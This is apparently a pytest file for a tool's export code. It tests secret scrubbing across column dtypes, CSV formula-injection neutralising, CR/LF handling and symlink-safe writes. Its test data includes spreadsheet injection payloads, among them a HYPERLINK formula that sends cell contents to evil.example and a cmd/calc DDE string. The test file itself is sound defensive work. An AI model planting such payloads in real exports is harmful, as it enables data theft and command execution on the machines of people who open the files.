"""Exports scrub secrets whatever the column dtype: a key that reached the store (e.g. echoed in a reply before the
client redacted replies) is in no exported file, no zip, no single-table download.

Before, only ``object`` columns were scrubbed; under pandas 3 text columns are ``StringDtype``, so nothing was.
"""

from __future__ import annotations

import io
import sqlite3
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from analysis.__main__ import main
from analysis.llm.client import ChatReply, ChatRequest
from analysis.llm.keys import register_secret
from analysis.methods.mbti.session import ANSWERS
from analysis.runs.export import export_store, frame_bytes, scrub_frame
from analysis.runs.store import Store

PLAIN_KEY = "correct-horse-battery-staple-42"  # not key-shaped: only known because the process registered it
SHAPED_KEY = "sk-proj-" + "Q" * 40  # key-shaped: scrubbed even if never registered


@pytest.fixture
def leaky_store(tmp_path: Path) -> Path:
    """A store holding keys: written by another tool (plain sqlite3), since RoleScope's write path scrubs them. Exports
    are the second layer and must scrub on their own."""
    register_secret(PLAIN_KEY)
    path = tmp_path / "leaky.db"
    with Store(path) as store:
        store.create_run("r", "mbti", "m", {}, {"method": "mbti"})
        request = ChatRequest.build([{"role": "user", "content": "hi"}], {})
        store.record_call("r", "u", "k1", "m", request, ChatReply("placeholder", "stop"))
        store.upsert(ANSWERS.name, [{"run_id": "r", "model": "m", "subject": "Men", "order_mode": "fixed", "testing": 0,
                                     "statement_id": "1", "raw": "placeholder", "reason": "placeholder", "valid": 0}])
        assert store.query_one("SELECT COUNT(*) AS n FROM calls WHERE reply LIKE '%***%'")["n"] == 0
    with sqlite3.connect(path) as raw:
        raw.execute("UPDATE calls SET reply=?", (f"Authorization: Bearer {PLAIN_KEY} / {SHAPED_KEY}",))
        raw.execute(f"UPDATE {ANSWERS.name} SET raw=?, reason=?", (f"echo {PLAIN_KEY}", f"x {SHAPED_KEY}"))
    return path


def test_the_store_write_path_scrubs_before_exports_do(tmp_path: Path) -> None:
    register_secret(PLAIN_KEY)
    with Store(tmp_path / "s.db") as store:
        store.create_run("r", "mbti", f"m {PLAIN_KEY}", {"note": SHAPED_KEY}, {"method": "mbti", "x": PLAIN_KEY})
        store.upsert(ANSWERS.name, [{"run_id": "r", "model": "m", "subject": "Men", "order_mode": "fixed", "testing": 0,
                                     "statement_id": "1", "raw": f"echo {PLAIN_KEY}", "reason": f"x {SHAPED_KEY}",
                                     "valid": 0}])
    blob = (tmp_path / "s.db").read_bytes() + (tmp_path / "s.db-wal").read_bytes() if (tmp_path / "s.db-wal").exists() \
        else (tmp_path / "s.db").read_bytes()
    assert PLAIN_KEY.encode() not in blob and SHAPED_KEY.encode() not in blob and b"***" in blob


def _assert_clean(blob: bytes, where: str) -> None:
    assert PLAIN_KEY.encode() not in blob and SHAPED_KEY.encode() not in blob, where
    assert b"***" in blob, where  # the rows are there, scrubbed


def test_string_dtype_columns_are_scrubbed() -> None:
    register_secret(PLAIN_KEY)
    frame = pd.DataFrame({"s": pd.array([f"a {PLAIN_KEY}", None], dtype="string"), "o": [SHAPED_KEY, 3],
                          "c": pd.Categorical([PLAIN_KEY, "b"]), "n": [1, 2]})
    clean = scrub_frame(frame)
    assert clean["s"].tolist()[0] == "a ***" and clean["o"].tolist() == ["***", 3] and clean["c"].tolist() == ["***", "b"]
    assert clean["n"].tolist() == [1, 2]


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_cli_export_and_app_downloads_hold_no_key(leaky_store: Path, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"out-{fmt}"
    assert main(["export", "--store", str(leaky_store), "--format", fmt, "--out", str(out)]) == 0
    for table in ("calls", "mbti_answers"):
        blob = (out / f"{table}.{fmt}").read_bytes()
        if fmt == "parquet":
            blob = pd.read_parquet(io.BytesIO(blob)).to_csv().encode()
        _assert_clean(blob, f"{table}.{fmt}")
    with Store(leaky_store, read_only=True) as store:  # the app's single-table download and its zip
        _assert_clean(frame_bytes(store.table("calls"), fmt) if fmt != "parquet"
                      else pd.read_parquet(io.BytesIO(frame_bytes(store.table("calls"), fmt))).to_csv().encode(), "download")
        written = export_store(store, tmp_path / f"zip-{fmt}", fmt)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for path in written:
            zf.write(path, path.name)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as zf:
        for name in zf.namelist():
            blob = zf.read(name)
            if fmt == "parquet":
                blob = pd.read_parquet(io.BytesIO(blob)).to_csv().encode()
            assert PLAIN_KEY.encode() not in blob and SHAPED_KEY.encode() not in blob, name


# -- CSV formula injection ---------------------------------------------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize("position", ["first", "middle", "last"])
def test_csv_cells_that_start_a_formula_are_quoted(cell: str, position: str) -> None:
    """Each formula start in each column position and row: quoted with ' in CSV; JSON and parquet keep it exact;
    numbers (negative ones too) untouched."""
    columns = {"first": ["t", "n", "u"], "middle": ["u", "t", "n"], "last": ["n", "u", "t"]}[position]
    frame = pd.DataFrame({"t": pd.array(["plain", cell], dtype="string"), "n": [-1.5, -2],
                          "u": ["x", "y"]})[columns]
    read = pd.read_csv(io.StringIO(frame_bytes(frame, "csv").decode()), keep_default_na=False)
    assert read["t"].tolist() == ["plain", "'" + cell]
    assert read["n"].tolist() == [-1.5, -2.0] and read["u"].tolist() == ["x", "y"]
    assert pd.read_json(io.BytesIO(frame_bytes(frame, "json")), orient="records")["t"].tolist() == ["plain", cell]
    assert pd.read_parquet(io.BytesIO(frame_bytes(frame, "parquet")))["t"].tolist() == ["plain", cell]


def test_formula_neutralising_keeps_other_text_and_runs_after_scrubbing() -> None:
    register_secret(PLAIN_KEY)
    frame = pd.DataFrame({"o": [f"={PLAIN_KEY}", "a = b", " =x", None, 3], "c": pd.Categorical(["@c", "d", "d", "d", "d"]),
                          "b": [True, False, True, False, True]})
    text = frame_bytes(frame, "csv").decode()
    assert PLAIN_KEY not in text
    read = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert read["o"].tolist() == ["'=***", "a = b", " =x", "", "3"] and read["c"].tolist()[0] == "'@c"
    assert read["b"].tolist() == [True, False, True, False, True]


def test_cli_export_csv_neutralises_a_hostile_reply(tmp_path: Path) -> None:
    path = tmp_path / "hostile.db"
    with Store(path) as store:
        store.create_run("r", "mbti", "m", {}, {"method": "mbti"})
        store.upsert(ANSWERS.name, [{"run_id": "r", "model": "=cmd|' /C calc'!A0", "subject": "Men", "order_mode": "fixed",
                                     "testing": 0, "statement_id": "1", "raw": "@SUM(1+1)*cmd", "reason": "-2+3",
                                     "valid": 0}])
    out = tmp_path / "out"
    assert main(["export", "--store", str(path), "--format", "csv", "--out", str(out)]) == 0
    row = pd.read_csv(out / f"{ANSWERS.name}.csv", keep_default_na=False).iloc[0]
    assert (row["model"], row["raw"], row["reason"]) == ("'=cmd|' /C calc'!A0", "'@SUM(1+1)*cmd", "'-2+3")
    assert row["testing"] == 0
    assert main(["export", "--store", str(path), "--format", "json", "--out", str(tmp_path / "json")]) == 0
    exact = pd.read_json(tmp_path / "json" / f"{ANSWERS.name}.json", orient="records").iloc[0]
    assert (exact["model"], exact["raw"], exact["reason"]) == ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3")


def test_csv_rows_survive_carriage_returns_inside_cells() -> None:
    """A reply holding a bare CR or LF stays one CSV row (quoted), whatever the reader."""
    import csv

    frame = pd.DataFrame({"t": ["a\rb", "c\nd", "e\r\nf"], "n": [1, 2, 3]})
    rows = list(csv.reader(io.StringIO(frame_bytes(frame, "csv").decode(), newline="")))
    assert rows == [["t", "n"], ["a\rb", "1"], ["c\nd", "2"], ["e\r\nf", "3"]]


def test_export_replaces_links_and_fifos_never_writing_through_them(tmp_path: Path) -> None:
    """Issue 58: ``export --out`` wrote each table with ``write_bytes``, following a symbolic link at a table's path
    (overwriting its target) and blocking on a FIFO there. Each file now goes through a temporary file renamed over
    its path: the link or FIFO is replaced, its target untouched, nothing waits."""
    import os
    import stat
    import subprocess
    import sys

    store = tmp_path / "s.db"
    with Store(store) as s:
        s.create_run("r1", "mbti", "m", {"name": "m"}, {"method": "mbti"})
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (out / "runs.csv").symlink_to(victim)
    os.mkfifo(out / "meta.csv")
    done = subprocess.run([sys.executable, "-m", "analysis", "export", "--store", str(store), "--format", "csv",
                           "--out", str(out)], cwd=Path(__file__).resolve().parents[2], capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    assert victim.read_text() == "keep me"
    for name in ("runs.csv", "meta.csv"):
        info = (out / name).lstat()
        assert stat.S_ISREG(info.st_mode), name
    assert "r1" in (out / "runs.csv").read_text()
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary file left
